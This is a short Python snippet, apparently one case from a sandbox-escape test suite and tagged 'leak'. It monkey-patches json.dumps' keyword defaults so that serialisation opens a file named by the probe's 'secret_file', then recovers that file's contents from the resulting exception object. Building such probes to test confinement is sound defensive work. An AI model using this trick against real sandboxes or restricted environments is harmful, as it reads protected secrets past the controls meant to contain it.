# effect: leak
import json


def attempt(probe):
    json.dumps.__kwdefaults__["cls"] = lambda **kw: json.codecs.open(probe["secret_file"])
    try:
        json.dumps({}, indent=1)
    except AttributeError as exc:
        return exc.obj.read()
    finally:
        json.dumps.__kwdefaults__["cls"] = None
